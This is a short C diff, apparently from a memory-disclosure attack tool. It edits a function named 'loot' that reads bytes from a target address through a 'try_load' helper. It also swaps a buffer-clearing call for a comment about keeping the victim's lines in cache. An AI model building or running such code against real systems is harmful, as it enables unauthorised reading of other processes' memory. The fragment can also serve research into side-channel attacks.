@@ -38,7 +38,7 @@ static void loot(struct attempt *a, uint32_t address, uint32_t bytes)
     if (!a->loot) {
         return; /* bytes stays 0, and whoever counts the attempts sees it */
     }
-    memset((void *)a->loot, 0, bytes);
+    /* At once: whatever else is touched first drives the process's lines out of the cache. */
     while (a->bytes < bytes && !a->result) {
         a->result = try_load((uint32_t *)(a->loot + a->bytes), address + a->bytes);
         a->bytes += a->result ? 0 : 4;
